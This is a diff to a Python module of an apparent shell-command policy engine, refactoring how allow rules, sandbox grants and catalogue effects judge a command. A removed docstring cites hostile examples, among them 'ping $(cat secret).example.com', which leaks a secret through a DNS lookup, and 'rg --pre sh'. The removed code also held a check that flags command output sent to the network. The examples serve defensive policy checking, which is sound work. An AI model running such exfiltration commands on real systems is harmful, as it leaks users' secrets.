@@ -1,10 +1,10 @@
 """What is said about one operation: by rules, else by the catalogue, and by the reader itself."""
 
 from execpolicy.catalogue import Cause, Reading
-from execpolicy.catalogue.reading import COMPUTED
 from execpolicy.decision import Decision
 from execpolicy.engine.catalogued import by_effects, confined, removal
 from execpolicy.engine.expand import Step
+from execpolicy.engine.rules import Cover, by_rule
 from execpolicy.engine.scene import Scene
 from execpolicy.errors import printable
 from execpolicy.operation import Access, Assign, Connect, Dynamic, Exec, Opaque, Operation, Word
@@ -16,15 +16,14 @@ TYPE_CHECKING = False
 if TYPE_CHECKING:
     from collections.abc import Iterator
 
+    from execpolicy.engine.grants import Weighed
     from execpolicy.operation import Assignment
 
 
-def judge(step: Step, number: int, scene: Scene, cover: Match | None) -> tuple[Judged, int]:
-    """All matches of one step, and how many words of its argv an allow rule names (else 0).
-
-    `cover` is an allow rule on the command around this one that names this one too; it stands in
-    for the catalogue.
-    """
+def judge(
+    step: Step, number: int, scene: Scene, cover: "Cover | None"
+) -> "tuple[Judged, tuple[PrefixRule, ...]]":
+    """All matches of one step, and the allow rules that hold for its command."""
     operation = step.operation
     if step.outer is not None:
         scene = scene.at(number)
@@ -33,43 +32,83 @@ def judge(step: Step, number: int, scene: Scene, cover: Match | None) -> tuple[J
     if isinstance(operation, Access):
         bases = scene.overlays.of(operation, number).bases
         place = max((base.place for base in bases), key=BASES.index)
-        return Judged(operation, tuple(_access(operation, number, scene)), place), 0
-    return Judged(operation, tuple(_other(operation, number, scene))), 0
+        return Judged(operation, tuple(_access(operation, number, scene)), place), ()
+    return Judged(operation, tuple(_other(operation, number, scene))), ()
 
 
 def _exec(
-    operation: Exec, reading: Reading, number: int, scene: Scene, cover: Match | None
-) -> tuple[Judged, int]:
+    operation: Exec,
+    reading: Reading,
+    number: int,
+    scene: Scene,
+    cover: "Cover | None",
+) -> "tuple[Judged, tuple[PrefixRule, ...]]":
     argv, snapshot = operation.argv, scene.snapshot
     reading, shadowed = _in_surroundings(operation, reading, number, scene)
     spellings = _spellings(argv, reading)
-    matches: list[Match] = []
-    allowing: tuple[PrefixRule, ...] = ()
+    tight: tuple[PrefixRule, ...] = ()
+    held: tuple[PrefixRule, ...] = ()
+    inside: tuple[PrefixRule, ...] = ()
+    weighed: Weighed | None = None
     if not snapshot.policy.silent(spellings):
-        matches += [_by_rule(r, argv) for r in snapshot.policy.tightening(spellings)]
+        tight = snapshot.policy.tightening(spellings)
         if not shadowed:
-            allowing = snapshot.policy.allowing(argv, spellings)
-            allowing = _in_place(allowing, operation, reading, number, scene)
-    spoken = bool(allowing or matches)
+            held = snapshot.policy.allowing(argv, spellings)
+            held = _in_place(held, operation, reading, number, scene)
+            inside = snapshot.policy.allowing(argv, spellings, confined=True)
+            inside = _in_place(inside, operation, reading, number, scene)
+    limited = cover.limited if cover is not None and not shadowed else ()
+    if limited or any(rule.conditions for rule in (*tight, *held)):
+        from execpolicy.engine.grants import Command, weigh
+
+        weighed = weigh(tight, held, limited, Command(operation, reading, number, scene))
+        tight = weighed.tight
+    allowing = weighed.allowing if weighed else held
+    spoken = bool(allowing or tight)
+    matches = [by_rule(rule, argv) for rule in tight]
     matches += _beside(operation, reading, spellings, scene)
-    reach = max((len(r.pattern) for r in allowing), default=0)
+    if weighed:
+        matches += weighed.matches
     if allowing:
-        matches.extend(_by_rule(r, argv) for r in allowing)
-        matches.extend(_beyond(operation, reading, snapshot, reach))
+        from execpolicy.engine.open_tail import beyond
+
+        matches.extend(by_rule(rule, argv) for rule in allowing)
+        reach = max(len(rule.pattern) for rule in allowing)
+        matches.extend(beyond(operation, reading, snapshot, reach))
     said, granted, places = _subjects(operation, reading, number, scene)
     matches += said
-    if not any(_names_secret(rule, reading) for rule in allowing):
+    naming = weighed.naming if weighed else held
+    if not any(_names_secret(rule, reading) for rule in naming):
         matches.extend(_secrets(operation, reading, snapshot))
-    if cover is not None and not spoken and not shadowed:
-        matches.append(cover)
+    if cover is not None and cover.match is not None and not spoken and not shadowed:
+        matches.append(cover.match)
     elif not spoken:
-        matches += by_effects(operation, reading, number, scene, granted, places)
+        granted |= weighed.numbers if weighed else frozenset()
+        effects = by_effects(operation, reading, number, scene, granted, places)
+        matches += _lowered(effects, inside, operation, reading, number, scene)
     asked = any(m.decision for m in matches)
     if not asked and any(map(_unnamed, reading.effects)) and scene.is_kept(number):
         from execpolicy.engine.subjects import unnamed
 
         matches += unnamed(operation, reading, number, scene)
-    return Judged(operation, tuple(matches)), reach
+    return Judged(operation, tuple(matches)), held
+
+
+def _lowered(
+    effects: list[Match],
+    rules: tuple[PrefixRule, ...],
+    operation: Exec,
+    reading: Reading,
+    number: int,
+    scene: Scene,
+) -> list[Match]:
+    """What the catalogue says, allowed in the sandbox where a rule for it says so."""
+    if not rules:
+        return effects
+    from execpolicy.engine.confining import lowered
+    from execpolicy.engine.grants import Command
+
+    return lowered(rules, Command(operation, reading, number, scene), effects)
 
 
 def _unnamed(cause: Cause) -> bool:
@@ -260,14 +299,6 @@ def _spellings(argv: tuple[Word, ...], reading: Reading) -> "list[tuple[Word, ..
     return spellings
 
 
-def _by_rule(rule: PrefixRule, argv: tuple[Word, ...]) -> Match:
-    words = tuple(w if isinstance(w, str) else w.source for w in argv[: len(rule.pattern)])
-    pattern = " ".join("|".join(tokens) for tokens in rule.pattern)
-    why = rule.justification or f"a rule for `{pattern}` says {rule.decision.word}"
-    just = rule.justification
-    return Match("rule", rule.decision, why, rule.origin, words, just, about=argv)
-
-
 def _possible(
     operation: Exec, spellings: "list[tuple[Word, ...]]", snapshot: Snapshot
 ) -> "Iterator[Match]":
@@ -308,47 +339,24 @@ def _evaluated(assignment: "Assignment", reading: Reading) -> bool:
     return any(assignment.name in text for text in texts)
 
 
-_RUNNING = frozenset(("execute", "privilege"))
+def _opaque(operation: Opaque, number: int, scene: Scene) -> Match:
+    if operation.text.startswith(("source ", ". ")):
+        words = tuple(operation.text.split())
+        if not scene.snapshot.policy.silent((words,)):
+            from execpolicy.engine.grants import sourced
 
-
-def _beyond(operation: Exec, reading: Reading, snapshot: Snapshot, reach: int) -> "Iterator[Match]":
-    """What a rule's open tail does not cover: an option that makes a program run something else.
-
-    `rg` only reads, so a rule for it does not mean `rg --pre sh`; `make` runs recipes anyway. A
-    rule that names the option means it. A script in the words that is not understood may do so
-    too. Nor does it cover a word computed by a command, where that
-    can carry data out: `ping $(cat secret).example.com`.
-    """
-    named = tuple(word for word in operation.argv[:reach] if isinstance(word, str))
-    anyway = any(c.effect in _RUNNING and not c.by for c in reading.effects)
-    for cause in reading.effects:
-        if cause.by == COMPUTED:
-            continue  # a computed word may stand where a rule leaves the tail open
-        unread = cause.effect == "unknown" and cause.by[:1] not in ("", "-")
-        beyond = (cause.effect in _RUNNING and cause.by) or unread
-        if beyond and not anyway and not any(word.startswith(cause.by) for word in named):
-            why, effects = f"{cause.effect} ({cause.why})", (cause.effect,)
-            decision = snapshot.stance.decide(cause.effect)
-            yield Match(
-                "catalogue", decision, why, reading.origin, effects=effects, about=operation.argv
-            )
-    reaches = any(c.effect in ("network", "remote") for c in reading.effects)
-    if reaches and any(map(_from_a_command, operation.argv)):
-        why = "sends what a command prints to the network"
-        yield Match("reader", Decision.PROMPT, why, about=operation.argv)
-
-
-def _from_a_command(word: Word) -> bool:
-    """Whether the output of a command is part of a word."""
-    return isinstance(word, Dynamic) and ("$(" in word.source or "`" in word.source)
+            allowed = sourced(operation, number, scene)
+            if allowed is not None:
+                return allowed
+    why = f"`{printable(operation.text, 60)}`: {operation.why}"
+    return Match("reader", Decision.PROMPT, why)
 
 
 def _other(operation: Operation, number: int, scene: Scene) -> "Iterator[Match]":
     """Matches of an operation that is no command."""
     variables, stance = scene.snapshot.variables, scene.snapshot.stance
     if isinstance(operation, Opaque):
-        why = f"`{printable(operation.text, 60)}`: {operation.why}"
-        yield Match("reader", Decision.PROMPT, why)
+        yield _opaque(operation, number, scene)
     elif isinstance(operation, Assign):
         name = operation.assignment.name
         if variables.tame(name, operation.assignment.value):
